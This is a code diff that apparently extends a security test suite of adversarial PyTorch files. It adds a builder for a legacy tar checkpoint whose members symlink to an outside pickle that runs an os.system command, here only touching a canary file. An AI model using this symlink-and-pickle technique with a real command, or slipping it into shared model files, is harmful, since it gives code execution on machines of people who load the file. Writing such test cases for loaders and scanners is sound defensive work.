@@ -1518,3 +1518,21 @@ def hunt_zip_trailing_end_signature(path: Path, canary: Path) -> Path:
 
 
 ADVERSARIAL_BUILDERS["zip_trailing_end_signature"] = ("torch", hunt_zip_trailing_end_signature)
+
+
+def hunt_legacy_tar_links(path: Path, canary: Path, target: Path | None = None) -> Path:
+    """torch's legacy tar format whose `storages`, `tensors` and `pickle` members are symbolic
+    links to a payload pickle outside the archive (`target`, beside the canary by default):
+    torch.load extracts them and unpickles what they point at."""
+    import tarfile
+
+    target = target or Path(canary).parent / "payload.pkl"
+    target.write_bytes(call("os", "system", touch_cmd(canary)))
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
+        for name in ("storages", "tensors", "pickle"):
+            info = tarfile.TarInfo(name)
+            info.type = tarfile.SYMTYPE
+            info.linkname = str(target)
+            tar.addfile(info)
+    return _write(path, out.getvalue())
